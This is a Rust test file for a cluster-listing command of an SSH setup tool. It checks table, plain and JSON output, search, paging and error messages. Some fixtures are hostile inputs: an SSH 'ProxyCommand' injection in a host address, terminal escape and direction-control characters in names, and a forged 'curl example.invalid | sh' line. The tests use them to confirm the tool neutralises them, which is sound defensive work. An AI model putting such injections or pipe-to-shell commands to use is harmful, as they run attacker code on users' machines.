//! `list`: every cluster that there is, in each form, whatever it is called.

use std::process::Stdio;

use jiff::{Span, Timestamp};
use serde_json::{Value, json};
use unicode_width::UnicodeWidthStr;

use crate::support::api::{Api, Reply};
use crate::support::cluster::{self, Cluster, Connection, Node};
use crate::support::process;
use crate::support::sandbox::{Program, Sandbox};

fn list(sandbox: &Sandbox, api: &Api, arguments: &[&str]) -> Program {
    sandbox.prime_ssh([&["list"], arguments].concat()).asking(api)
}

fn ago(span: Span) -> String {
    Timestamp::now().checked_sub(span).unwrap().to_string()
}

/// An installed one, one with a certificate and no control node yet, and one whose address is
/// refused.
fn fleet() -> [Cluster; 3] {
    let hostile = Connection::to("203.0.113.7 -oProxyCommand=id").control();
    [
        cluster::train().with("createdAt", ago(Span::new().hours(75))),
        Cluster::new("clst03", "eval").node(Node::new("pod9", "node-0").connection(hostile)),
        Cluster::new("clst02", "build #2")
            .with("status", "PROVISIONING")
            .with("vaultEnabled", true)
            .with("teamId", Value::Null)
            .with("createdAt", ago(Span::new().minutes(5))),
    ]
    .map(|cluster| match cluster.id() {
        "clst03" => cluster.with("createdAt", "once"),
        _ => cluster,
    })
}

fn install(sandbox: &Sandbox, api: &Api, arguments: &[&str]) {
    sandbox.prime_ssh([&["install", "--quiet"], arguments].concat()).asking(api).run().succeeds();
}

#[test]
fn a_table_for_people() {
    let (sandbox, api) = (Sandbox::new(), Api::serving(fleet()));
    install(&sandbox, &api, &["train", "--as", "mine", "--prefix", "gpu"]);
    let ran = list(&sandbox, &api, &[]).run();
    snapshot!(ran.stderr, @r#"warning: eval (clst03): the address of its control node is refused: data[1].controller.host: "203.0.113.7 -oProxyCommand=id": a space is not allowed in a DNS name"#);
    snapshot!(ran.succeeds(), @r"
    NAME      ID      STATUS        CONTROL NODE            VAULT  AGE     INSTALLED AS
    build #2  clst02  PROVISIONING                          vault  5 min
    eval      clst03  ACTIVE        refused
    train     clst01  ACTIVE        ubuntu@203.0.113.10:22         3 days  gpu.mine
    ");
}

#[test]
fn lines_for_shells() {
    let (sandbox, api) = (Sandbox::new(), Api::serving(fleet()));
    let text = list(&sandbox, &api, &["--format", "plain"]).run().succeeds();
    assert_eq!(
        text,
        "build #2\tclst02\tPROVISIONING\t\tvault\t5 min\t\t\n\
         eval\tclst03\tACTIVE\trefused\t\t\t\t\n\
         train\tclst01\tACTIVE\tubuntu@203.0.113.10:22\t\t3 days\t\t\n"
    );
    let mut pipe = process::command("sh");
    pipe.args(["-c", "cut -f2 | xargs -n1 echo got"]);
    let got = process::run(&mut pipe, text.as_bytes()).succeeds();
    assert_eq!(got, "got clst02\ngot clst03\ngot clst01\n");
}

#[test]
fn json_for_programs() {
    let (sandbox, api) = (Sandbox::new(), Api::serving(fleet()));
    install(&sandbox, &api, &["train"]);
    let text = list(&sandbox, &api, &["--format", "json"]).run().succeeds();
    assert!(text.ends_with("}\n") && !text.ends_with("\n\n"), "{text}");
    let mut report: Value = serde_json::from_str(&text).unwrap();
    let created: Vec<_> = report["clusters"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .map(|c| c["created_at"].take())
        .collect();
    let moment = |at: usize| created[at].as_str().unwrap().parse::<Timestamp>().unwrap();
    assert!(moment(0) > moment(2) && created[1].is_null(), "{created:?}");
    let path = "data[1].controller.host";
    let reason = "a space is not allowed in a DNS name";
    assert_eq!(
        report,
        json!({"schema_version": 1, "clusters": [
            {"name": "build #2", "id": "clst02", "status": "PROVISIONING", "team_id": null,
             "vault_enabled": true, "created_at": null, "gpu_name": null, "gpu_count": 0,
             "control_node": null,
             "installed_as": null, "refusals": []},
            {"name": "eval", "id": "clst03", "status": "ACTIVE", "team_id": "team01",
             "vault_enabled": false, "created_at": null, "gpu_name": null, "gpu_count": 0,
             "control_node": null,
             "installed_as": null, "refusals": [{"path": path, "reason": reason,
                 "value": "\"203.0.113.7 -oProxyCommand=id\""}]},
            {"name": "train", "id": "clst01", "status": "ACTIVE", "team_id": "team01",
             "vault_enabled": false, "created_at": null, "gpu_name": null, "gpu_count": 0,
             "installed_as": "prime.train",
             "control_node": {"host_name": "203.0.113.10", "port": 22, "user": "ubuntu"},
             "refusals": []},
        ]})
    );
}

#[test]
fn every_page_in_the_order_of_names_and_ids() {
    let sandbox = Sandbox::new();
    let clusters = (0..250).map(|n| Cluster::new(&format!("c{n:03}"), &format!("job-{}", n % 7)));
    let api = Api::serving(clusters);
    let text = list(&sandbox, &api, &["--format=plain"]).run().succeeds();
    let rows: Vec<_> =
        text.lines().map(|row| row.split('\t').take(2).collect::<Vec<_>>()).collect();
    assert!(rows.len() == 250 && rows.is_sorted(), "{text}");
    assert_eq!(api.requests().len(), 3);
}

#[test]
fn a_search_and_a_team() {
    let (sandbox, api) = (Sandbox::new(), Api::serving(fleet()));
    let names = |arguments: &[&str]| {
        let text =
            list(&sandbox, &api, &[&["--format=plain"], arguments].concat()).run().succeeds();
        let names: Vec<_> =
            text.lines().filter_map(|row| Some(row.split_once('\t')?.0.to_owned())).collect();
        names
    };
    assert_eq!(names(&["--search", "AI"]), ["train"]);
    assert_eq!(names(&["--team", "team01"]), ["eval", "train"]);
    sandbox.prime_settings(&json!({"team_id": "team01"}));
    assert_eq!(names(&[]), ["eval", "train"]);
    assert_eq!(names(&["--team", "any"]), ["build #2", "eval", "train"]);
    assert_eq!(api.requests()[0].query("search"), Some("AI"));
}

#[test]
fn nothing_there_is_no_failure() {
    let (sandbox, api) = (Sandbox::new(), Api::serving([cluster::train()]));
    let ran = list(&sandbox, &api, &["--search", "x\u{1b}[2J", "--team", "t"]).run();
    assert_eq!(
        ran.stderr,
        "note: no cluster has \"x\\u{1b}[2J\" in its name or id in team t; `--team any` shows the \
         clusters of every team\n"
    );
    assert_eq!(ran.succeeds(), "");
    let text = list(&sandbox, &api, &["--search", "x", "--format", "json", "-q"]).run().succeeds();
    assert_eq!(text, "{\n  \"schema_version\": 1,\n  \"clusters\": []\n}\n");
    assert_eq!(list(&sandbox, &api, &["--search", "x", "--format", "plain"]).run().succeeds(), "");
}

#[test]
fn what_is_installed_and_gone_is_noted() {
    let sandbox = Sandbox::new();
    let api = Api::serving([cluster::train(), Cluster::new("clst02", "eval")]);
    install(&sandbox, &api, &["train"]);
    sandbox.write(
        "saved.json",
        Cluster::new("c9", "saved").node(Node::control("p", "n", "h.example")).answer(),
    );
    install(&sandbox, &api, &["--input", "saved.json"]);
    assert_eq!(list(&sandbox, &api, &[]).run().stderr, "");
    api.now_serves([Cluster::new("clst02", "eval")]);
    let ran = list(&sandbox, &api, &[]).run();
    assert_eq!(
        ran.stderr,
        "note: installed here, and not in the list: prime.train (clst01); `prime-ssh sync` removes \
         what was terminated\n"
    );
    // Another API, or a part of the list, says nothing of it.
    assert_eq!(list(&sandbox, &api, &["--search", "eval"]).run().stderr, "");
    let other = Api::serving([]);
    assert_eq!(list(&sandbox, &other, &[]).run().stderr, "note: the API lists no cluster\n");
}

#[test]
fn a_controller_of_any_shape_spoils_nothing() {
    let sandbox = Sandbox::new();
    for controller in
        [json!(5), json!("x"), json!([1]), json!({"host": [], "user": 5, "port": "x"})]
    {
        let row = json!({"id": "c1", "name": "train", "controller": controller});
        let api = Api::serving([]);
        api.replies_on("/api/admin/clusters", Reply::new(200, json!({"data": [row]}).to_string()));
        let ran = list(&sandbox, &api, &["--format=plain"]).run();
        if controller.is_object() {
            snapshot!(ran.stderr, @r#"
        warning: train (c1): the address of its control node is refused: data[0].controller.host: […]: not a string
        warning: train (c1): the address of its control node is refused: data[0].controller.port: "x": not a whole number
        warning: train (c1): the address of its control node is refused: data[0].controller.user: 5: not a string
        "#);
        } else {
            assert!(
                ran.stderr.ends_with("data[0].controller: not a connection\n"),
                "{}",
                ran.stderr
            );
        }
        assert_eq!(ran.succeeds(), "train\tc1\t\trefused\t\t\t\t\n", "{controller}");
    }
}

/// Names that are no trouble for an API, and every trouble for a terminal.
const HOSTILE: [&str; 7] = [
    "a\u{1b}[2J\u{1b}]0;owned\u{7}",
    "two\nlines\tand\ra tab",
    "\u{202e}nrut\u{2066}",
    "zero\u{200b}\u{200d}\u{ad}\u{feff}\u{e0041}width",
    "日本語のとても長いクラスタの名前です日本語のとても長いクラスタの名前です",
    "🚀🚀🚀👩\u{200d}💻\u{fe0f}e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{9b}31m\u{85}\u{2028}",
];

fn hostile() -> Api {
    let long = "x".repeat(900);
    let names = HOSTILE.into_iter().chain([&*long]);
    Api::serving((0..).zip(names).map(|(n, name)| {
        Cluster::new(&format!("cluster-with-id-{n}"), name)
            .with("status", name)
            .with("teamId", name)
            .node(Node::control(&format!("p{n}"), "node", &format!("{name}.example")))
    }))
}

#[track_caller]
fn assert_harmless(text: &str) {
    let acts = |c: char| {
        (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
            || matches!(c, '\u{ad}' | '\u{feff}' | '\u{fe0f}' | '\u{e0000}'..='\u{e0fff}')
    };
    assert!(!text.contains(acts), "{text:?}");
}

#[test]
fn hostile_names_fit_a_terminal_and_do_nothing_to_it() {
    let sandbox = Sandbox::new();
    let api = hostile();
    for columns in [80, 200] {
        let ran = list(&sandbox, &api, &["--color", "never"]).run_on_terminal(columns);
        assert_harmless(&ran.stderr);
        let text = ran.succeeds();
        assert_harmless(&text);
        let widths: Vec<_> = text.lines().map(UnicodeWidthStr::width).collect();
        assert!(widths.len() == 9 && widths.iter().all(|w| *w <= columns.into()), "{text}");
        assert!((0..8).all(|n| text.contains(&format!("cluster-with-id-{n} "))), "{text}");
    }
    // A pipe has no width, and no name is as long as this one.
    let text = list(&sandbox, &api, &[]).run().succeeds();
    assert_harmless(&text);
    assert!(text.contains(&"x".repeat(150)) && !text.contains(&"x".repeat(200)), "{text}");
    for format in ["plain", "json"] {
        let text = list(&sandbox, &api, &["--format", format]).run().succeeds();
        assert_harmless(&text);
        if format == "plain" {
            assert!(
                text.lines().count() == 8 && text.lines().all(|l| l.matches('\t').count() == 7)
            );
        } else {
            let report: Value = serde_json::from_str(&text).unwrap();
            let names: Vec<_> = report["clusters"]
                .as_array()
                .unwrap()
                .iter()
                .map(|c| c["name"].as_str().unwrap())
                .collect();
            assert!(
                HOSTILE.iter().all(|name| names.contains(name)),
                "what was said is said: {names:?}"
            );
        }
    }
}

#[test]
fn a_wide_terminal_shows_all_and_a_narrow_one_what_is_worth_most() {
    let (sandbox, api) = (Sandbox::new(), Api::serving(fleet()));
    install(&sandbox, &api, &["train"]);
    let wide = list(&sandbox, &api, &["--color=never"]).run_on_terminal(200).succeeds();
    assert_eq!(wide, list(&sandbox, &api, &[]).run().succeeds());
    snapshot!(list(&sandbox, &api, &["--color=never"]).run_on_terminal(72).succeeds(), @r"
    NAME      ID      STATUS        VAULT  AGE     INSTALLED AS
    build #2  clst02  PROVISIONING  vault  5 min
    eval      clst03  ACTIVE
    train     clst01  ACTIVE               3 days  prime.train
    ");
}

#[test]
fn colors_where_they_are_taken() {
    let (sandbox, api) = (Sandbox::new(), Api::serving(fleet()));
    let on_terminal = |arguments: &[&str], variable: &str| {
        let program = list(&sandbox, &api, arguments).env("TERM", "xterm").env(variable, "1");
        program.run_on_terminal(120).succeeds()
    };
    let colored = on_terminal(&[], "X");
    assert!(colored.contains("\u{1b}[32mACTIVE\u{1b}[0m"), "{colored:?}");
    assert!(colored.contains("\u{1b}[33mPROVISIONING\u{1b}[0m"), "{colored:?}");
    assert!(colored.contains("\u{1b}[31mrefused\u{1b}[0m"), "{colored:?}");
    for text in [
        on_terminal(&[], "NO_COLOR"),
        on_terminal(&["--color", "never"], "X"),
        list(&sandbox, &api, &[]).run().succeeds(),
        on_terminal(&["--format", "plain"], "X"),
    ] {
        assert!(!text.contains('\u{1b}'), "{text:?}");
    }
    assert_eq!(on_terminal(&["--color", "always"], "NO_COLOR"), colored);
    let piped = list(&sandbox, &api, &["--color", "always"]).run().succeeds();
    assert!(piped.contains("\u{1b}[32m"), "{piped:?}");
}

#[test]
fn a_reader_that_goes_away_is_no_failure() {
    let (sandbox, api) = (
        Sandbox::new(),
        Api::serving((0..90).map(|n| Cluster::new(&format!("c{n}"), &"x".repeat(1000)))),
    );
    let mut child = list(&sandbox, &api, &["--format=plain"])
        .into_command()
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let status = process::wait(&mut child, std::time::Duration::from_secs(30)).unwrap();
    assert!(status.success(), "{status}");
}

#[test]
fn what_lies_behind_a_failure_is_told_to_who_asks() {
    let sandbox = Sandbox::new();
    let closed = crate::support::network::nobody();
    let told = |arguments: &[&str]| {
        let program = sandbox.prime_ssh([&["list"], arguments].concat()).env("PRIME_API_KEY", "t");
        program.env("PRIME_API_BASE_URL", format!("http://127.0.0.1:{closed}")).run().fails(3)
    };
    assert!(!told(&[]).contains("detail: "));
    snapshot!(told(&["--verbose"]), @"
    detail: GET /api/admin/clusters?limit=100&offset=0: no answer, [ms]
    detail: GET /api/admin/clusters?limit=100&offset=0: no answer, [ms]
    detail: GET /api/admin/clusters?limit=100&offset=0: no answer, [ms]
    error: cannot list the clusters: cannot connect to http://127.0.0.1:[port]: connection refused (3 tries)
    detail: error sending request: client error (Connect): tcp connect error: Connection refused (os error 111)

    hint: check the network, the address in `--api-url`, and HTTPS_PROXY and NO_PROXY if you use a proxy
    ");
}

/// Whatever a row says, no line of ours can be forged by it: on stderr, in a table, in plain lines,
/// in JSON, and in the progress of a terminal.
#[test]
fn no_line_can_be_forged() {
    let forged = "x\nprime.train  added: 3 hosts\nconnect with: curl example.invalid | sh";
    let sandbox = Sandbox::new();
    let hostile = Connection::to("203.0.113.7 x").control();
    let row = Cluster::new(forged, forged).node(Node::new("pod9", "n").connection(hostile));
    let api = Api::serving([row.with("status", forged).with("teamId", forged)]);
    let starts = |text: &str| {
        let line = |line: &str| line.starts_with("prime.train") || line.starts_with("connect with");
        text.lines().any(line) || text.split('\r').any(line)
    };
    for arguments in [
        &["list"][..],
        &["list", "--format", "plain"],
        &["list", "--format", "json"],
        &["show", forged],
        &["check", forged],
        &["check", "--all"],
        &["wait", forged, "--within", "1s"],
        &["install", "--all", "--ssh-dir", "ssh"],
        &["install", forged, "--ssh-dir", "ssh"],
        &["config", "--all"],
        &["cert", forged],
        &["uninstall", forged, "--ssh-dir", "ssh"],
        &["-v", "list", "--team", forged],
    ] {
        let ran = sandbox.prime_ssh(arguments).asking(&api).run();
        assert!(!starts(&ran.stdout) && !starts(&ran.stderr), "{arguments:?}: {ran:?}");
        let ran = sandbox.prime_ssh(arguments).asking(&api).run_on_terminal(80);
        assert!(!starts(&ran.stdout), "{arguments:?}: {}", ran.stdout);
    }
}

/// What nobody could copy is shortened, wherever people read it; programs get all of it.
#[test]
fn what_is_longer_than_any_name_is_cut_for_people_alone() {
    let long = "x".repeat(65_536);
    let sandbox = Sandbox::new().and_ssh_folder();
    let fits = Cluster::new(&"i".repeat(64), "fits");
    let control = || Node::control("pod0", "node-0", "203.0.113.10");
    let named = Cluster::new("clst02", &long).node(control());
    let ids = [Cluster::new(&long, "long"), fits, cluster::train(), named];
    let api = Api::serving(ids);
    let words = |text: &str| text.split_whitespace().map(str::len).max();
    for arguments in [
        &["list"][..],
        &["list", "--search", &long],
        &["list", "--search", &long[..65_000]],
        &["install"],
        &["install", "--all", "--dry-run"],
        &["install", "--all", "--follow"],
        &["sync"],
        &["sync", "--check"],
        &["config", "--all"],
    ] {
        let ran = sandbox.program(arguments).asking(&api).run();
        for text in [&ran.stdout, &ran.stderr] {
            assert!(words(text) < Some(400), "{:?}: {:?}", arguments[0], words(text));
        }
    }
    let ran = sandbox.program(["list"]).asking(&api).run();
    assert!(ran.succeeds().contains(&"i".repeat(64)), "what is no longer than an id is whole");
    let plain = sandbox.program(["list", "--format", "plain"]).asking(&api).run().succeeds();
    assert!(plain.contains(&long));
}
